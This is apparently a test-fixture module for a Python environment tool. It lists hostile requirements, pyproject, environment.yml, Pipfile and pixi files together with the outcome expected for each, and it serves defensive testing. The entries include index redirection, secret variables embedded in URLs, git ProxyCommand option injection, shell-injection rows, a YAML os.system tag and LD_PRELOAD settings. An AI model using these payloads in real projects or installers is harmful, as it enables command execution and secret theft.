"""Requirement, environment and manifest files that say more than what to install.

``{index}`` is the catcher, ``{outside}`` a folder outside the project. Each file is given with what must come of it.
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["DECLARED", "FILES", "PLAIN", "REFUSED", "SHOWN", "HostileFile"]

REFUSED = "refused"
"""No engine is called; the message names the file."""
PLAIN = "plain"
"""Nothing in it is dangerous (or it is another tool's, and not followed): no foreign request, no strange row."""
DECLARED = "declared"
"""An address or a path that is itself what to install: followed or refused, but no variable or option in it."""
SHOWN = "shown"
"""It is followed, for that is its purpose, and the answer says so."""


@dataclass(frozen=True)
class HostileFile:
    what: str
    files: dict[str, bytes]
    comes: str


def _list(what: str, text: str | bytes, comes: str, name: str = "requirements.txt", **more: str) -> HostileFile:
    body = text.encode() if isinstance(text, str) else text
    return HostileFile(what, {name: body, **{key: value.encode() for key, value in more.items()}}, comes)


def _rows(name: str) -> tuple[HostileFile, ...]:
    """Lines of a requirements file, in a loose list and in a ``requirements.in``."""
    pin = "six==1.16.0\n"
    refused = (
        "--index-url {index}", "-i {index}", "-i{index}", "--index-url={index}", "--extra-index-url {index}", "--no-index",
        "-f {index}/links", "--find-links {outside}", "--find-links={index}", "--trusted-host 127.0.0.1",
        "--no-binary :all:", "--no-binary=six", "--use-feature=fast-deps", "--config-settings x=y", "--target {outside}",
        "--prefix={outside}", "--proxy {index}", "--default-index {index}", "--index x={index}", "--keyring-provider=subprocess",
        "-r ../outside/evil.txt", "-r {outside}/evil.txt", "-r {index}/evil.txt", "-r file://{outside}/evil.txt", "-r ~/evil.txt",
        "-c ../outside/evil.txt", "-c {index}/evil.txt", "--requirement={index}/evil.txt", "-r missing.txt",
        "--index-url {index}/${H4_SECRET}", "--extra-index-url https://${H4_SECRET}@index.example.org", "-r ${H4_SECRET}.txt",
        "six2 @ {index}/${H4_SECRET}/six2-1-py3-none-any.whl", "-e git+{index}/${H4_SECRET}#egg=x",
        "six2 @ git+ssh://-oProxyCommand=touch%20{outside}%2Fpwned/x", "git+ssh://-oProxyCommand=touch/x#egg=six2",
        "six --index-url {index}",
        "six2 >= 1 --global-option=x", "six2 \\\n  --index-url {index}", "# x \\\n--index-url {index}", "six\x0c--index-url {index}",
        "six\u2028--index-url {index}", "'--index-url' {index}", "six2 @ --index-url={index}", "six; touch {outside}/pwned",
        "$(touch {outside}/pwned)", "six2==`id`", "six==1.16.0\x00", "\x1b[31msix2==1",
    )  # fmt: skip
    declared = (
        "-e git+https://index.example.org/x#egg=six2", "six2 @ git+https://index.example.org/x",
        "six2 @ {index}/six2-1-py3-none-any.whl", "{index}/six2-1-py3-none-any.whl", "six2 @ hg+{index}/x",
        "six2 @ file://{outside}/six2-1-py3-none-any.whl", "../outside/six2-1-py3-none-any.whl", "-e ../outside", "-e {outside}",
    )  # fmt: skip
    plain = (
        "--pre",
        "--prefer-binary",
        "--only-binary :all:",
        "# --index-url {index}",
        "six2>9 ; python_version < '3'",
    )
    return (
        *(_list(f"{name}: {row[:60]!r}", pin + row + "\n", REFUSED, name) for row in refused),
        *(_list(f"{name}: {row[:60]!r}", pin + row + "\n", PLAIN, name) for row in plain),
        *(_list(f"{name}: {row[:60]!r}", pin + row + "\n", DECLARED, name) for row in declared),
    )


_PROJECT = '[project]\nname = "demo"\nversion = "1"\nrequires-python = ">=3.9"\ndependencies = ["six==1.16.0"{more}]\n'


def _manifest(what: str, comes: str, more: str = "", tail: str = "", **files: str) -> HostileFile:
    text = _PROJECT.replace("{more}", f", {more}" if more else "") + tail
    return HostileFile(what, {"pyproject.toml": text.encode(), **{k: v.encode() for k, v in files.items()}}, comes)


_MANIFESTS = (
    _manifest("pyproject: a variable in an address", REFUSED, "'six2 @ {index}/${H4_SECRET}/six2-1-py3-none-any.whl'"),
    _manifest("pyproject: a variable in a git address", REFUSED, "'six2 @ git+https://index.example.org/${H4_SECRET}/x'"),
    _manifest("pyproject: git's host is an option", REFUSED, "'six2 @ git+ssh://-oProxyCommand=touch/x'"),
    _manifest("pyproject: plain http", DECLARED, "'six2 @ {index}/six2-1-py3-none-any.whl'"),
    _manifest("pyproject: a file outside", DECLARED, "'six2 @ file://{outside}/six2-1-py3-none-any.whl'"),
    _manifest("pyproject: a second line", REFUSED, '"six2\\n--index-url={index}"'),
    _manifest("pyproject: an option", REFUSED, "'--index-url={index}'"),
    _manifest("pyproject: a group with a variable", REFUSED, tail="[dependency-groups]\ndev = ['six2 @ {index}/${H4_SECRET}/x.whl']\n"),
    _manifest("pyproject: uv's index", SHOWN, tail='[[tool.uv.index]]\nname = "evil"\nurl = "{index}"\n'),
    _manifest("pyproject: uv's default index", SHOWN, tail='[[tool.uv.index]]\nurl = "{index}"\ndefault = true\n'),
    _manifest("pyproject: uv's old index", SHOWN, tail='[tool.uv]\nindex-url = "{index}"\n'),
    _manifest("pyproject: uv's extra index", SHOWN, tail='[tool.uv]\nextra-index-url = ["{index}"]\n'),
    _manifest("pyproject: uv's links", SHOWN, tail='[tool.uv]\nfind-links = ["{index}/links"]\n'),
    _manifest("pyproject: uv's pip index", SHOWN, tail='[tool.uv.pip]\nindex-url = "{index}"\n'),
    _manifest("pyproject: uv's index with a variable", REFUSED, tail='[[tool.uv.index]]\nurl = "{index}/${H4_SECRET}"\n'),
    _manifest("pyproject: uv's source at an address", DECLARED, "'six2'", '[tool.uv.sources]\nsix2 = { url = "{index}/six2-1-py3-none-any.whl" }\n'),
    _manifest("pyproject: uv's source in git", REFUSED, "'six2'", '[tool.uv.sources]\nsix2 = { git = "ssh://-oProxyCommand=touch/x" }\n'),
    _manifest("pyproject: uv's source outside", DECLARED, "'six2'", '[tool.uv.sources]\nsix2 = { path = "../outside" }\n'),
    _manifest("pyproject: its engine", REFUSED, tail='[tool.mlenv]\nengine = "../evil"\n'),
    _manifest("pyproject: its environment is the home folder", REFUSED, tail='[tool.mlenv]\nenv = "~"\n'),
    _manifest("pyproject: its environment lies outside", REFUSED, tail='[tool.mlenv]\nenv = "../outside"\n'),
    _manifest("uv.toml: an index", SHOWN, **{"uv.toml": '[[index]]\nurl = "{index}"\n'}),
    _manifest("uv.toml: the default index", SHOWN, **{"uv.toml": 'index-url = "{index}"\n'}),
    _manifest("pip.conf beside it", PLAIN, **{"pip.conf": "[global]\nindex-url = {index}\n"}),
    _manifest(".env beside it", PLAIN, **{".env": "UV_DEFAULT_INDEX={index}\nPIP_INDEX_URL={index}\nUV_INDEX={index}\n"}),
    _manifest("sitecustomize beside it", PLAIN, **{"sitecustomize.py": "open('{outside}/pwned', 'w')\n"}),
)  # fmt: skip

_OTHERS = (
    _list("a byte-order mark", b"\xef\xbb\xbfsix==1.16.0\n", PLAIN),
    _list("CRLF", "six==1.16.0\r\nidna==3.6\r\n", PLAIN),
    _list("UTF-16 with an option", "six==1.16.0\n--index-url {index}\n".encode("utf-16"), REFUSED),
    _list("UTF-16 without a mark", "six==1.16.0\n".encode("utf-16-le"), REFUSED),
    _list("Latin-1", "six==1.16.0 # caf\xe9\n".encode("latin-1"), REFUSED),
    _list("an unknown coding", "# coding: rot13\nsix==1.16.0\n", REFUSED),
    _list("merge marks", "<<<<<<< HEAD\nsix==1.16.0\n=======\nsix==1.17.0\n>>>>>>> x\n", REFUSED),
    _list("two pins of one name", "six==1.16.0\nsix==1.17.0\n", REFUSED),
    _list("a nested list with an option", "six==1.16.0\n-r more.txt\n", REFUSED, **{"more.txt": "--index-url {index}\n"}),
    _list("a list that includes itself", "six==1.16.0\n-r requirements.txt\n", PLAIN),
    _list("channels", "channels: ['{index}']\ndependencies: [six]\n", REFUSED, "environment.yml"),
    _list("a pip section", "dependencies: [pip, {pip: ['--index-url {index}', six]}]\n", REFUSED, "environment.yml"),
    _list("a prefix", "prefix: {outside}\ndependencies: [six]\n", REFUSED, "environment.yml"),
    _list("variables", "variables: {LD_PRELOAD: /x.so}\ndependencies: [six]\n", REFUSED, "environment.yml"),
    _list("a tag", "!!python/object/apply:os.system ['touch {outside}/pwned']\n", REFUSED, "environment.yml"),
    _list("a Pipfile's source", "[[source]]\nurl = '{index}'\n[packages]\nsix = '*'\n", REFUSED, "Pipfile"),
    _list("a pixi channel", "[workspace]\nchannels = ['{index}']\n", REFUSED, "pixi.toml"),
)  # fmt: skip

FILES = (*_rows("requirements.txt"), *_rows("requirements.in"), *_MANIFESTS, *_OTHERS)
